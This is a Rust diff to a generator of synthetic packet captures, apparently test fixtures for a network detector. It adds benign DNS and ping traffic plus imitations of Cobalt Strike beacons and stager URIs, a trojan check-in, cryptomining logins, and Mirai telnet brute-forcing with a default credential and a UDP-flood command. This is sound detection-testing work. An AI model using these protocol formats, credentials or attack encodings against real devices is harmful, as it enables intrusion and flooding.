@@ -243,7 +243,8 @@ pub fn webshell(path: &Path) -> std::io::Result<()> {
 /// 52001 a login form POST with a base64 CSRF token, 52002 a jQuery JSON
 /// API call (the Accept header Behinder copies) with a form body, 52003 a
 /// JSON-RPC call (`eth_blockNumber`), 52004 an upload of a base64 image in
-/// a form field.
+/// a form field, 52005-52007 DNS queries for long CDN host names, and a
+/// 1,400-byte ping with its answer.
 pub fn benign(path: &Path) -> std::io::Result<()> {
     let server = ("10.30.0.80", 80);
     let token = STANDARD.encode(noise(7, 48));
@@ -337,5 +338,310 @@ pub fn benign(path: &Path) -> std::io::Result<()> {
         &response("text/html", b"<p>Uploaded.</p>"),
         4,
     );
-    write(path, vec![login, ajax, rpc, upload])
+    let cdn = vec![
+        udp_packet(
+            ("10.30.0.5", 52005),
+            ("10.30.0.53", 53),
+            &dns_query(0x1a2b, "d3k81ch9hvuctc.cloudfront.net"),
+        ),
+        udp_packet(
+            ("10.30.0.5", 52006),
+            ("10.30.0.53", 53),
+            &dns_query(0x1a2c, "e6858.dsce9.akamaiedge.net"),
+        ),
+        udp_packet(
+            ("10.30.0.5", 52007),
+            ("10.30.0.53", 53),
+            &dns_query(0x1a2d, "r4---sn-4g5ednsz.googlevideo.com"),
+        ),
+    ];
+    let (s, d) = (addr("10.30.0.5"), addr("10.30.0.1"));
+    let pattern: Vec<u8> = (0..1_400u32).map(|i| (i % 256) as u8).collect();
+    let ping = vec![
+        ip(s, d, ICMP, &icmp(s, d, 8, 0, [0x12, 0x34, 0, 1], &pattern)),
+        ip(d, s, ICMP, &icmp(d, s, 0, 0, [0x12, 0x34, 0, 1], &pattern)),
+    ];
+    write(path, vec![login, ajax, rpc, upload, cdn, ping])
+}
+
+/// A DNS query for `name` (type A, recursion desired).
+fn dns_query(id: u16, name: &str) -> Vec<u8> {
+    let mut m = id.to_be_bytes().to_vec();
+    m.extend_from_slice(&[0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
+    for label in name.split('.') {
+        m.push(label.len() as u8);
+        m.extend_from_slice(label.as_bytes());
+    }
+    m.extend_from_slice(&[0, 0, 1, 0, 1]);
+    m
+}
+
+fn udp_packet(src: (&str, u16), dst: (&str, u16), data: &[u8]) -> Vec<u8> {
+    let (s, d) = (addr(src.0), addr(dst.0));
+    ip(s, d, UDP, &udp(s, d, src.1, dst.1, data))
+}
+
+/// A 4-character URI path whose byte sum modulo 256 is `target`: how
+/// Cobalt Strike's stagers name what they fetch (92 for x86, 93 for x64).
+fn checksum8_path(target: u8, seed: u64) -> String {
+    const ALPHABET: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
+    let mut state = seed;
+    loop {
+        let mut path = Vec::with_capacity(4);
+        for _ in 0..4 {
+            state = state
+                .wrapping_mul(6_364_136_223_846_793_005)
+                .wrapping_add(1_442_695_040_888_963_407);
+            path.push(ALPHABET[(state >> 33) as usize % ALPHABET.len()]);
+        }
+        if path.iter().map(|&b| u32::from(b)).sum::<u32>() % 256 == u32::from(target) {
+            return String::from_utf8(path).expect("ascii");
+        }
+    }
+}
+
+/// Command and control over HTTP against 10.40.0.66: 53001 a Cobalt
+/// Strike default-profile beacon (GET /ca with its metadata in a base64
+/// cookie), 53002 its output POST to /submit.php?id=N, 53003 an x64 stager
+/// fetch (a checksum8 URI), 53004 a plain HTTP trojan checking in with the
+/// host name, user name and OS in the query.
+pub fn c2(path: &Path) -> std::io::Result<()> {
+    let server = ("10.40.0.66", 80);
+    let ie = "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; BOIE9;ENUS)";
+    let cookie = STANDARD.encode(noise(11, 128));
+    let beacon = session(
+        ("10.40.0.7", 53001),
+        server,
+        &request(
+            "GET",
+            "/ca",
+            &[
+                ("Cookie", &cookie),
+                ("User-Agent", ie),
+                ("Host", "10.40.0.66"),
+                ("Connection", "Keep-Alive"),
+                ("Cache-Control", "no-cache"),
+            ],
+            b"",
+        ),
+        &response("application/octet-stream", &noise(12, 48)),
+        3,
+    );
+    let output = session(
+        ("10.40.0.7", 53002),
+        server,
+        &request(
+            "POST",
+            "/submit.php?id=1712456023",
+            &[
+                ("Content-Type", "application/octet-stream"),
+                ("User-Agent", ie),
+                ("Host", "10.40.0.66"),
+            ],
+            &noise(13, 68),
+        ),
+        &response("text/html", b""),
+        2,
+    );
+    let stager = session(
+        ("10.40.0.7", 53003),
+        server,
+        &request(
+            "GET",
+            &format!("/{}", checksum8_path(93, 14)),
+            &[("User-Agent", ie), ("Host", "10.40.0.66")],
+            b"",
+        ),
+        &response("application/octet-stream", &noise(15, 2_100)),
+        2,
+    );
+    let checkin = session(
+        ("10.40.0.7", 53004),
+        ("10.40.0.67", 8080),
+        &request(
+            "GET",
+            "/gate.php?hostname=DESKTOP-7Q2KX9L&username=j.smith&os=Windows%2010%20Pro%20x64&av=Defender&ver=2.3",
+            &[("User-Agent", "Mozilla/4.0"), ("Host", "10.40.0.67:8080")],
+            b"",
+        ),
+        &response("text/plain", b"ok|sleep=60"),
+        2,
+    );
+    write(path, vec![beacon, output, stager, checkin])
+}
+
+/// Cryptomining: 54001 a Stratum v1 session to a pool (subscribe,
+/// authorize with a wallet and worker, a job), 54002 XMRig's login, a DNS
+/// query for a pool name from 54003, and 54004 a Swarm Bee node's API on
+/// port 1633.
+pub fn mining(path: &Path) -> std::io::Result<()> {
+    let stratum = {
+        let mut conn = Tcp::new(
+            ("10.50.0.9", 54001),
+            ("10.50.0.99", 3333),
+            0x2000_0000,
+            0x6000_0000,
+        );
+        let mut p = vec![
+            conn.segment(true, SYN, b""),
+            conn.segment(false, SYN | ACK, b""),
+            conn.segment(true, ACK, b""),
+        ];
+        let subscribe =
+            b"{\"id\": 1, \"method\": \"mining.subscribe\", \"params\": [\"cgminer/4.11.1\"]}\n";
+        let (a, b) = subscribe.split_at(30);
+        let (first, second) = (conn.cseq, conn.cseq.wrapping_add(a.len() as u32));
+        conn.cseq = second;
+        let late = conn.segment(true, PSH | ACK, b);
+        conn.cseq = first;
+        let early = conn.segment(true, PSH | ACK, a);
+        conn.cseq = second.wrapping_add(b.len() as u32);
+        p.push(late);
+        p.push(early);
+        p.push(conn.segment(false, PSH | ACK, b"{\"id\":1,\"result\":[[[\"mining.set_difficulty\",\"1\"],[\"mining.notify\",\"ae6812eb4cd7735a302a8a9dd95cf71f\"]],\"08000002\",4],\"error\":null}\n"));
+        p.push(conn.segment(true, PSH | ACK, b"{\"params\": [\"bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh.rig01\", \"x\"], \"id\": 2, \"method\": \"mining.authorize\"}\n"));
+        p.push(conn.segment(false, PSH | ACK, b"{\"id\":2,\"result\":true,\"error\":null}\n{\"params\":[\"bf\",\"4d16b6f85af6e2198f44ae2a6de67f78487ae5611b77c6c0440b921e00000000\",\"01000000010000000000000000000000000000000000000000000000000000000000000000ffffffff20020862062f503253482f04b8864e5008\",\"072f736c7573682f000000000100f2052a010000001976a914d23fcdf86f7e756a64a7a9688ef9903327048ed988ac00000000\",[],\"00000002\",\"1c2ac4af\",\"504e86b9\",false],\"id\":null,\"method\":\"mining.notify\"}\n"));
+        p.push(conn.segment(true, FIN | ACK, b""));
+        p.push(conn.segment(false, FIN | ACK, b""));
+        p.push(conn.segment(true, ACK, b""));
+        p
+    };
+    let xmrig = {
+        let mut conn = Tcp::new(
+            ("10.50.0.9", 54002),
+            ("10.50.0.98", 10128),
+            0x2100_0000,
+            0x6100_0000,
+        );
+        let login = b"{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\",\"pass\":\"x\",\"agent\":\"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/11.3.0\",\"algo\":[\"rx/0\",\"cn/r\"]}}\n";
+        vec![
+            conn.segment(true, SYN, b""),
+            conn.segment(false, SYN | ACK, b""),
+            conn.segment(true, ACK, b""),
+            conn.segment(true, PSH | ACK, &login[..90]),
+            conn.segment(true, PSH | ACK, &login[90..]),
+            conn.segment(false, PSH | ACK, b"{\"id\":1,\"jsonrpc\":\"2.0\",\"error\":null,\"result\":{\"id\":\"a3f1\",\"job\":{\"blob\":\"0707\",\"job_id\":\"1\",\"target\":\"b88d0600\",\"algo\":\"rx/0\"},\"status\":\"OK\"}}\n"),
+            conn.segment(true, FIN | ACK, b""),
+            conn.segment(false, FIN | ACK, b""),
+            conn.segment(true, ACK, b""),
+        ]
+    };
+    let pool_lookup = vec![udp_packet(
+        ("10.50.0.9", 54003),
+        ("10.50.0.53", 53),
+        &dns_query(0x4d2a, "xmr-eu1.nanopool.org"),
+    )];
+    let bee = session(
+        ("10.50.0.9", 54004),
+        ("10.50.0.97", 1633),
+        &request(
+            "POST",
+            "/bzz",
+            &[
+                ("Host", "10.50.0.97:1633"),
+                (
+                    "Swarm-Postage-Batch-Id",
+                    "8c1ab2b49d5a4e8e3e5d2f2b7d4f8a1c6e9b0d3f5a7c9e1b3d5f7a9c1e3b5d7f",
+                ),
+                ("Content-Type", "application/octet-stream"),
+            ],
+            &noise(16, 512),
+        ),
+        &response(
+            "application/json",
+            br#"{"reference":"36b7efd913ca4cf880b8eeac5093fa27b0825906c600685b6abdd6566e6cfe8f"}"#,
+        ),
+        2,
+    );
+    write(path, vec![stratum, xmrig, pool_lookup, bee])
+}
+
+/// Mirai: 55001.. scanner SYNs to port 23 whose sequence number is the
+/// destination address, a telnet session (55100) logging in with a default
+/// credential and probing with `/bin/busybox MIRAI`, and an attack command
+/// from its C2 (55200): a 30 s UDP flood on one target, payload size 512.
+pub fn mirai(path: &Path) -> std::io::Result<()> {
+    let mut scans = Vec::new();
+    for (i, target) in ["10.60.1.10", "10.60.1.11", "10.60.7.200"]
+        .iter()
+        .enumerate()
+    {
+        let (s, d) = (addr("10.60.0.13"), addr(target));
+        let seq = match d {
+            std::net::IpAddr::V4(v4) => u32::from(v4),
+            std::net::IpAddr::V6(_) => 0,
+        };
+        scans.push(ip(
+            s,
+            d,
+            TCP,
+            &tcp(s, d, 55001 + i as u16, 23, seq, 0, SYN, b""),
+        ));
+    }
+    let telnet = {
+        let mut conn = Tcp::new(
+            ("10.60.0.13", 55100),
+            ("10.60.1.10", 23),
+            0x3000_0000,
+            0x6200_0000,
+        );
+        let mut p = vec![
+            conn.segment(true, SYN, b""),
+            conn.segment(false, SYN | ACK, b""),
+            conn.segment(true, ACK, b""),
+            conn.segment(false, PSH | ACK, b"\r\nlogin: "),
+            conn.segment(true, PSH | ACK, b"root\r\n"),
+            conn.segment(false, PSH | ACK, b"Password: "),
+            conn.segment(true, PSH | ACK, b"xc3511\r\n"),
+            conn.segment(
+                false,
+                PSH | ACK,
+                b"\r\n\r\nBusyBox v1.19.4 built-in shell (ash)\r\n# ",
+            ),
+        ];
+        for line in [
+            "enable\r\n",
+            "system\r\n",
+            "shell\r\n",
+            "sh\r\n",
+            "/bin/busybox MIRAI\r\n",
+        ] {
+            p.push(conn.segment(true, PSH | ACK, line.as_bytes()));
+        }
+        p.push(conn.segment(false, PSH | ACK, b"MIRAI: applet not found\r\n# "));
+        p.push(conn.segment(true, FIN | ACK, b""));
+        p.push(conn.segment(false, FIN | ACK, b""));
+        p.push(conn.segment(true, ACK, b""));
+        p
+    };
+    let command = {
+        // duration 30, attack 0 (UDP generic), one target 10.60.9.9/32,
+        // options: 0 (payload size) = "512", 7 (destination port) = "80".
+        let mut body = 30u32.to_be_bytes().to_vec();
+        body.extend_from_slice(&[0, 1, 10, 60, 9, 9, 32, 2]);
+        body.extend_from_slice(&[0, 3]);
+        body.extend_from_slice(b"512");
+        body.extend_from_slice(&[7, 2]);
+        body.extend_from_slice(b"80");
+        let mut message = ((body.len() + 2) as u16).to_be_bytes().to_vec();
+        message.extend_from_slice(&body);
+        let mut conn = Tcp::new(
+            ("10.60.0.13", 55200),
+            ("10.60.0.250", 23),
+            0x3100_0000,
+            0x6300_0000,
+        );
+        vec![
+            conn.segment(true, SYN, b""),
+            conn.segment(false, SYN | ACK, b""),
+            conn.segment(true, ACK, b""),
+            conn.segment(true, PSH | ACK, &[0, 0, 0, 1]),
+            conn.segment(false, PSH | ACK, &message),
+            conn.segment(true, ACK, b""),
+            conn.segment(false, FIN | ACK, b""),
+            conn.segment(true, FIN | ACK, b""),
+            conn.segment(false, ACK, b""),
+        ]
+    };
+    write(path, vec![scans, telnet, command])
 }
